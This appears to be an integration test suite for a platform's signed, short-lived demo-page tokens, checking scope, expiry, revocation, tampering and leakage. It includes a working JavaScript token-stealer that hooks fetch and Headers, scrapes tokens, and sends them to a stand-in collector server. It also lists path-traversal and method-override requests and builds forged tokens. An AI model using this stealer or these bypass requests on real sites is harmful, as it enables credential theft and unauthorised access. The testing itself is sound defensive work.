"""A demo page's capability, without a browser: what it is, what it reaches, when it dies.

A page holds `demo:<claims>~<signature>`, minted for its viewer and the
deployments its demo selects. It must run those deployments as the viewer
and be refused (401) everywhere else, carry no admin power for an admin
viewer, and stop working when it expires, is tampered with, or its viewer
signs out everywhere, is disabled or is deleted.
"""

from __future__ import annotations

import base64
import http.client
import json
import re
import time
import uuid

import flask
import requests
from firebase_admin import auth as firebase_auth

from devstack.tokens import mint_token
from shared.platform import auth, clients, signing
from shared.platform.config import get_settings
from tests.fakes.server import serving
from tests.integration.helpers import run_token as run_token_of
from tests.integration.helpers import sign_up
from tests.integration.test_demos import WEATHER_API, Viewer, chromium, demo_body, needs_chromium

ECHO_AGENT = (
    "async def run(input_dict, tools):\n    return {'outputText': 'ran ' + input_dict['q']}\n"
)


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def firebase_user(name: str, *, admin: bool = False) -> tuple[dict[str, str], str]:
    user = mint_token(f"{name}-{uuid.uuid4().hex[:8]}@example.com", admin=admin)
    return bearer(user.id_token), user.uid


def deploy(stack, headers, friendly_name: str, *, public: bool = False) -> None:
    agent = requests.post(
        stack.url("/agents"),
        json={
            "name": friendly_name,
            "description": "echo",
            "code": ECHO_AGENT,
            "friendlyName": friendly_name,
        },
        headers=headers,
        timeout=10,
    )
    assert agent.status_code == 201, agent.text
    deployed = requests.post(
        stack.url(f"/agents/{agent.json()['_id']}/deploy"),
        params={"public": "true"} if public else None,
        headers=headers,
        timeout=10,
    )
    assert deployed.status_code == 201, deployed.text


def demo_selecting(stack, headers, *names: str) -> str:
    apis = [{**WEATHER_API, "friendlyName": name} for name in names]
    created = requests.post(
        stack.url("/demos"), json=demo_body(selectedApis=apis), headers=headers, timeout=10
    )
    assert created.status_code == 201, created.text
    return created.json()["_id"]


def mint(stack, headers, demo_id: str) -> requests.Response:
    return requests.post(stack.url(f"/demos/{demo_id}/capability"), headers=headers, timeout=10)


def capability_of(stack, headers, demo_id: str) -> str:
    minted = mint(stack, headers, demo_id)
    assert minted.status_code == 200, minted.text
    return minted.json()["capability"]


def run(stack, token: str, name: str, **options) -> requests.Response:
    return requests.post(
        stack.url(f"/rest/{name}"), json={"q": "hi"}, headers=bearer(token), timeout=60, **options
    )


def claims_of(capability: str) -> dict:
    payload = capability.removeprefix("demo:").split("~")[0]
    return json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))


def test_the_owner_mints_a_capability_for_the_selected_deployments(stack):
    headers, uid = firebase_user("owner")
    deploy(stack, headers, "echo_a")
    deploy(stack, headers, "echo_b")
    demo_id = demo_selecting(stack, headers, "echo_a", "not_deployed", "echo_b", "echo_a")

    before = time.time()
    minted = mint(stack, headers, demo_id)

    assert minted.status_code == 200, minted.text
    body = minted.json()
    assert set(body) == {"capability", "deployments", "expiresAt"}
    assert body["deployments"] == ["echo_a", "echo_b"]
    assert body["capability"].startswith("demo:")
    claims = claims_of(body["capability"])
    assert claims["u"] == uid and claims["d"] == demo_id and claims["n"] == ["echo_a", "echo_b"]
    lifetime = claims["e"] - before
    assert abs(lifetime - get_settings().demo_capability_seconds) < 5
    assert headers["Authorization"][7:] not in body["capability"]


def test_only_the_owner_or_an_admin_mints_one(stack):
    owner, _ = firebase_user("owner")
    other, _ = firebase_user("other")
    admin, _ = firebase_user("admin", admin=True)
    demo_id = demo_selecting(stack, owner, "echo_a")
    capability = capability_of(stack, owner, demo_id)

    assert mint(stack, other, demo_id).status_code == 404
    assert mint(stack, admin, demo_id).status_code == 200
    assert mint(stack, {}, demo_id).status_code == 401
    # A capability cannot mint another (nor renew itself).
    assert mint(stack, bearer(capability), demo_id).status_code == 401


def test_the_page_holds_a_capability_and_never_the_viewers_token(stack):
    headers, uid = firebase_user("owner")
    deploy(stack, headers, "echo_a")
    demo_id = demo_selecting(stack, headers, "echo_a")

    page = requests.get(stack.url(f"/demos/{demo_id}/page"), headers=headers, timeout=10)

    assert page.status_code == 200
    assert headers["Authorization"][7:] not in page.text
    held = re.findall(r'"(demo:[A-Za-z0-9_-]+~[A-Za-z0-9_-]+)"', page.text)
    assert len(held) == 1
    assert claims_of(held[0])["u"] == uid and claims_of(held[0])["n"] == ["echo_a"]
    assert "series:token" not in page.text


def test_it_runs_the_selected_deployment_as_its_viewer_and_nothing_else(stack):
    headers, _ = firebase_user("owner")
    deploy(stack, headers, "echo_a")
    deploy(stack, headers, "echo_b")
    demo_id = demo_selecting(stack, headers, "echo_a")
    capability = capability_of(stack, headers, demo_id)

    selected = run(stack, capability, "echo_a")
    not_selected = run(stack, capability, "echo_b")
    with_the_token = run(stack, headers["Authorization"][7:], "echo_b")

    assert selected.status_code == 200, selected.text
    assert selected.json() == {"outputText": "ran hi"}
    assert not_selected.status_code == 401
    assert with_the_token.status_code == 200


OTHER_ROUTES = [
    ("GET", "/users/me"),
    ("DELETE", "/users/me"),
    ("GET", "/admin/users"),
    ("GET", "/agents"),
    ("POST", "/agents"),
    ("GET", "/deployments"),
    ("GET", "/demos"),
    ("GET", "/data-store/namespaces"),
    ("GET", "/data-store/namespaces/default/records/k"),
    ("PUT", "/data-store/namespaces/default/records/k"),
    ("POST", "/agents/run-code"),
    ("POST", "/agents/run-code/llm"),
    ("POST", "/agents/run-code/call"),
    ("POST", "/chat"),
    ("POST", "/data-store/ops"),
    ("GET", "/auth/validate"),
]


def test_every_other_route_refuses_it(stack):
    headers, _ = firebase_user("admin", admin=True)
    demo_id = demo_selecting(stack, headers, "echo_a")
    capability = capability_of(stack, headers, demo_id)

    answers = {
        (method, path): requests.request(
            method, stack.url(path), headers=bearer(capability), json={}, timeout=10
        ).status_code
        for method, path in [*OTHER_ROUTES, ("GET", f"/demos/{demo_id}/page")]
    }

    assert set(answers.values()) == {401}, answers


def test_an_admin_viewers_capability_has_no_admin_power(stack):
    victim, _ = firebase_user("victim")
    deploy(stack, victim, "private_echo")
    deploy(stack, victim, "public_echo", public=True)
    admin, _ = firebase_user("admin", admin=True)
    demo_id = demo_selecting(stack, admin, "private_echo", "public_echo")
    minted = mint(stack, admin, demo_id).json()

    as_admin = run(stack, admin["Authorization"][7:], "private_echo")
    as_page = run(stack, minted["capability"], "private_echo")
    public = run(stack, minted["capability"], "public_echo")
    listing = requests.get(
        stack.url("/admin/users"), headers=bearer(minted["capability"]), timeout=10
    )

    assert as_admin.status_code == 200, as_admin.text
    # Another user's private deployment is not the admin's to hand a page.
    assert minted["deployments"] == ["public_echo"]
    assert as_page.status_code == 401
    assert public.status_code == 200, public.text
    assert listing.status_code == 401


def test_a_demo_cannot_make_its_viewers_page_call_the_viewers_private_deployments(stack):
    author, _ = firebase_user("author")
    admin, _ = firebase_user("admin", admin=True)
    deploy(stack, admin, "admins_private")
    deploy(stack, author, "authors_public", public=True)
    demo_id = demo_selecting(stack, author, "admins_private", "authors_public")

    page = requests.get(stack.url(f"/demos/{demo_id}/page"), headers=admin, timeout=10)
    held = re.findall(r'"(demo:[A-Za-z0-9_-]+~[A-Za-z0-9_-]+)"', page.text)[0]

    assert claims_of(held)["n"] == ["authors_public"]
    assert run(stack, held, "admins_private").status_code == 401
    assert run(stack, held, "authors_public").status_code == 200


def test_one_demos_capability_does_not_reach_another_demos_deployments(stack):
    headers, _ = firebase_user("owner")
    deploy(stack, headers, "echo_a")
    deploy(stack, headers, "echo_b")
    first = capability_of(stack, headers, demo_selecting(stack, headers, "echo_a"))
    demo_selecting(stack, headers, "echo_b")

    assert run(stack, first, "echo_b").status_code == 401


def raw(stack, method: str, path: str, headers: dict[str, str]) -> tuple[int, bytes]:
    """Send the request line exactly as written (no client normalises dot segments)."""
    host, port = stack.gateway_url.removeprefix("http://").split(":")
    connection = http.client.HTTPConnection(host, int(port), timeout=60)
    try:
        connection.request(
            method,
            path,
            body=b'{"q": "hi"}',
            headers={**headers, "Content-Type": "application/json"},
        )
        answer = connection.getresponse()
        return answer.status, answer.read()
    finally:
        connection.close()


TRICKS = [
    ("POST", "/rest/echo_a/../../users/me", {}),
    ("POST", "/rest/echo_a/../../admin/users", {}),
    ("POST", "/rest/echo_a/..%2F..%2Fusers%2Fme", {}),
    ("POST", "/rest/echo_a%2F..%2F..%2Fusers%2Fme", {}),
    ("POST", "/rest/%2e%2e/users/me", {}),
    ("POST", "/rest/./../users/me", {}),
    ("POST", "/rest//echo_a", {}),
    ("POST", "/rest/echo_a/", {}),
    ("POST", "/rest/echo_a;/../../admin/users", {}),
    ("POST", "/rest/ECHO_A", {}),
    ("POST", "/rest/echo_a%00", {}),
    ("GET", "/rest/echo_a", {}),
    ("PUT", "/rest/echo_a", {}),
    ("POST", "http://127.0.0.1/users/me", {}),
    ("POST", "/users/me", {"X-HTTP-Method-Override": "GET"}),
    ("POST", "/admin/users", {"X-HTTP-Method-Override": "GET"}),
    ("POST", "/agents", {"X-HTTP-Method-Override": "GET"}),
]


def test_path_and_method_tricks_reach_nothing_else(stack):
    headers, _ = firebase_user("owner", admin=True)
    deploy(stack, headers, "echo_a")
    capability = capability_of(stack, headers, demo_selecting(stack, headers, "echo_a"))

    answers = {
        (method, path): raw(stack, method, path, {**bearer(capability), **extra})
        for method, path, extra in TRICKS
    }
    with_query = raw(stack, "POST", "/rest/echo_a?x=/users/me", bearer(capability))
    overridden = raw(
        stack,
        "POST",
        "/rest/echo_a",
        {**bearer(capability), "X-HTTP-Method-Override": "DELETE", "X-Original-URL": "/users/me"},
    )

    refused = {key: status for key, (status, _) in answers.items() if status not in (401, 404, 405)}
    assert refused == {}, answers
    # Override headers and the query are ignored: the selected deployment's run, nothing else.
    assert overridden == with_query == (200, b'{"outputText":"ran hi"}')
    assert len(requests.get(stack.url("/agents"), headers=headers, timeout=10).json()) == 1


def forge(claims: dict, purpose: str | None = None) -> str:
    return "demo:" + signing.sign(purpose or auth.DEMO_CAPABILITY_PURPOSE, claims)


def test_tampered_and_forged_capabilities_are_refused(stack):
    headers, uid = firebase_user("owner")
    deploy(stack, headers, "echo_a")
    deploy(stack, headers, "echo_b")
    capability = capability_of(stack, headers, demo_selecting(stack, headers, "echo_a"))
    payload, signature = capability.removeprefix("demo:").split("~")
    claims = claims_of(capability)
    widened = {**claims, "n": ["echo_a", "echo_b"]}
    widened_payload = base64.urlsafe_b64encode(json.dumps(widened).encode()).rstrip(b"=").decode()
    run_token = run_token_of(uid, ("echo_a",))

    attempts = {
        "widened claims": f"demo:{widened_payload}~{signature}",
        "other signature": f"demo:{payload}~{signature[::-1]}",
        "no signature": f"demo:{payload}",
        "signed as a run token": forge(widened, purpose=auth.RUN_TOKEN_PURPOSE),
        "run token relabelled": "demo:" + run_token.removeprefix("run:"),
        "capability as a run token": "run:" + capability.removeprefix("demo:"),
        "bad claims": forge({**claims, "n": "echo_b"}),
        "no viewer": forge({**claims, "u": ""}),
        "not json": "demo:bm90IGpzb24~" + signature,
    }

    answers = {name: run(stack, token, "echo_b").status_code for name, token in attempts.items()}
    run_route = requests.post(
        stack.url("/agents/run-code/llm"),
        headers=bearer(attempts["capability as a run token"]),
        json={},
        timeout=10,
    )

    assert set(answers.values()) == {401}, answers
    assert run_route.status_code == 401


def test_an_expired_capability_is_refused(stack, monkeypatch):
    headers, _ = firebase_user("owner")
    deploy(stack, headers, "echo_a")
    demo_id = demo_selecting(stack, headers, "echo_a")
    monkeypatch.setenv("DEMO_CAPABILITY_SECONDS", "2")
    get_settings.cache_clear()
    try:
        capability = capability_of(stack, headers, demo_id)
    finally:
        monkeypatch.delenv("DEMO_CAPABILITY_SECONDS")
        get_settings.cache_clear()
    claims = claims_of(capability)
    time.sleep(max(0.0, claims["e"] - time.time()) + 0.2)

    expired = run(stack, capability, "echo_a")
    stretched = forge({**claims, "e": claims["e"] - 3600})

    assert expired.status_code == 401
    assert expired.json() == {"detail": "Token expired"}
    assert run(stack, stretched, "echo_a").status_code == 401


def test_it_dies_when_its_viewer_is_deleted(stack):
    user = mint_token(f"leaving-{uuid.uuid4().hex[:8]}@example.com")
    headers = bearer(user.id_token)
    deploy(stack, headers, "echo_a")
    demo_id = demo_selecting(stack, headers, "echo_a")
    capability = capability_of(stack, headers, demo_id)
    assert run(stack, capability, "echo_a").status_code == 200

    deleted = requests.delete(stack.url("/users/me"), headers=headers, timeout=10)

    assert deleted.status_code == 202, deleted.text
    assert run(stack, capability, "echo_a").status_code == 401
    # Once the deletion has finished (no deletion record, no Firebase user), still refused.
    deadline = time.monotonic() + 120
    while clients.firestore().collection("deletions").document(user.uid).get().exists:
        assert time.monotonic() < deadline, "the deletion did not finish"
        time.sleep(0.5)
    assert run(stack, capability, "echo_a").status_code == 401


def test_it_dies_when_its_viewer_signs_out_everywhere_or_is_disabled(stack):
    first = mint_token(f"revoked-{uuid.uuid4().hex[:8]}@example.com")
    second = mint_token(f"disabled-{uuid.uuid4().hex[:8]}@example.com")
    capabilities = {}
    for user in (first, second):
        deploy(stack, bearer(user.id_token), f"echo_{user.uid[:6].lower()}")
        demo_id = demo_selecting(stack, bearer(user.id_token), f"echo_{user.uid[:6].lower()}")
        capabilities[user.uid] = capability_of(stack, bearer(user.id_token), demo_id)
    time.sleep(1.1)  # revocation has one-second granularity

    firebase_auth.revoke_refresh_tokens(first.uid, app=clients.firebase_app())
    firebase_auth.update_user(second.uid, disabled=True, app=clients.firebase_app())

    revoked = run(stack, capabilities[first.uid], f"echo_{first.uid[:6].lower()}")
    disabled = run(stack, capabilities[second.uid], f"echo_{second.uid[:6].lower()}")
    assert (revoked.status_code, revoked.json()) == (401, {"detail": "Token revoked"})
    assert (disabled.status_code, disabled.json()) == (401, {"detail": "User disabled"})


def test_a_phone_viewers_capability_dies_with_the_session(stack):
    viewer = sign_up(stack)
    deploy(stack, viewer.headers, "echo_phone")
    capability = capability_of(
        stack, viewer.headers, demo_selecting(stack, viewer.headers, "echo_phone")
    )
    assert claims_of(capability)["s"] != viewer.token

    ran = run(stack, capability, "echo_phone")
    requests.post(stack.url("/auth/logout"), json={"token": viewer.token}, timeout=10)
    auth.forget_user(viewer.user_id)

    assert ran.status_code == 200, ran.text
    assert run(stack, capability, "echo_phone").status_code == 401


# The page an attacker writes: it wraps fetch and Headers, listens to every message,
# reads its own scripts, starts the call its page is meant to make and, once the
# embedding window has posted its message, navigates itself to the attacker's
# collector with everything it saw (navigation is not a
# `connect-src` fetch: the page's policy does not stop it, so whatever a page holds
# can leave it).
STEALING_JS = """
const loot = [];
const keep = (value) => loot.push(typeof value === "string" ? value : JSON.stringify(value));
const NativeHeaders = window.Headers;
for (const name of ["set", "append"]) {
  const original = NativeHeaders.prototype[name];
  NativeHeaders.prototype[name] = function (key, value) {
    keep(String(value));
    return original.call(this, key, value);
  };
}
window.Headers = class extends NativeHeaders {
  constructor(init) { super(init); keep([...this]); }
};
const wrapped = window.fetch;
window.fetch = (input, init = {}) => {
  keep({url: String(input.url || input), init: JSON.stringify(init)});
  return wrapped(input, init);
};
const posted = new Promise((resolve) =>
  window.addEventListener("message", (event) => { keep(event.data); resolve(); }));
for (const script of document.scripts) {
  keep(script.textContent.match(/(demo|run):[A-Za-z0-9_~.-]+|eyJ[A-Za-z0-9_.-]+/g) || []);
}
fetch(`${API_BASE_URL}/rest/SELECTED`, {
  method: "POST",
  headers: {"Content-Type": "application/json"},
  body: JSON.stringify({q: "hi"}),
});
await posted;
location.href = "COLLECTOR/collect?loot=" + encodeURIComponent(JSON.stringify(loot));
"""
TOKEN_SHAPED = re.compile(r"(?:demo|run):[A-Za-z0-9_-]+~[A-Za-z0-9_-]+|eyJ[\w-]+\.[\w-]+\.[\w-]*")


class Collector:
    """The attacker's server: keeps what pages send it."""

    def __init__(self) -> None:
        self.received: list[list[str]] = []

    def app(self) -> flask.Flask:
        app = flask.Flask("collector")

        @app.get("/collect")
        def collect() -> str:
            self.received.append(json.loads(flask.request.args["loot"]))
            return "thanks"

        return app


@needs_chromium
def test_a_page_that_steals_what_it_is_given_gets_only_a_weak_capability(
    stack, tmp_path, monkeypatch
):
    # A user publishes two agents and a demo that tries to steal from its viewers.
    author, _ = firebase_user("author")
    deploy(stack, author, "selected_echo", public=True)
    deploy(stack, author, "other_echo", public=True)
    collector = Collector()
    admin_user = mint_token(f"admin-{uuid.uuid4().hex[:8]}@example.com", admin=True)
    admin = bearer(admin_user.id_token)
    lifetime = 60
    with serving(collector.app()) as collector_url:
        code = {
            "html": "<p>stealing</p>",
            "css": "",
            "js": STEALING_JS.replace("SELECTED", "selected_echo").replace(
                "COLLECTOR", collector_url
            ),
        }
        demo_id = demo_selecting(stack, author, "selected_echo")
        requests.put(
            stack.url(f"/demos/{demo_id}"),
            json=demo_body(
                selectedApis=[{**WEATHER_API, "friendlyName": "selected_echo"}],
                generatedCode=code,
            ),
            headers=author,
            timeout=10,
        ).raise_for_status()
        # An admin opens it, as a web app shows it: the page in a sandboxed srcdoc iframe,
        # and a freshly minted capability posted in.
        monkeypatch.setenv("DEMO_CAPABILITY_SECONDS", str(lifetime))
        get_settings.cache_clear()
        try:
            page = requests.get(stack.url(f"/demos/{demo_id}/page"), headers=admin, timeout=10)
            fresh = capability_of(stack, admin, demo_id)
        finally:
            monkeypatch.delenv("DEMO_CAPABILITY_SECONDS")
            get_settings.cache_clear()
        viewer = Viewer(page.text, {"type": "series:capability", "capability": fresh})
        with serving(viewer.app()) as origin:
            chromium(tmp_path, "--virtual-time-budget=15000", "--dump-dom", f"{origin}/viewer")
        deadline = time.monotonic() + 20
        while not collector.received and time.monotonic() < deadline:
            time.sleep(0.2)

    assert collector.received, "the page never reached its collector"
    loot = " ".join(collector.received[0])
    assert "/rest/selected_echo" in loot  # the page made its call
    stolen = set(TOKEN_SHAPED.findall(loot))
    assert admin_user.id_token not in loot
    assert all(token.startswith("demo:") for token in stolen), stolen
    # What it took: its own capability (from its script and its Authorization header)
    # and the fresh one posted in; nothing else.
    assert fresh in stolen and len(stolen) == 2, stolen
    assert "Bearer demo:" in loot
    for capability in stolen:
        refused = {
            path: requests.request(
                method, stack.url(path), headers=bearer(capability), json={}, timeout=10
            ).status_code
            for method, path in [
                ("GET", "/users/me"),
                ("GET", "/admin/users"),
                ("GET", "/agents"),
                ("GET", "/data-store/namespaces/default/records/k"),
                ("POST", "/rest/other_echo"),
                ("POST", f"/demos/{demo_id}/capability"),
            ]
        }
        assert set(refused.values()) == {401}, refused
        assert run(stack, capability, "selected_echo").json() == {"outputText": "ran hi"}
    last = max(claims_of(capability)["e"] for capability in stolen)
    assert last - time.time() <= lifetime
    time.sleep(max(0.0, last - time.time()) + 0.5)
    assert {run(stack, capability, "selected_echo").status_code for capability in stolen} == {401}
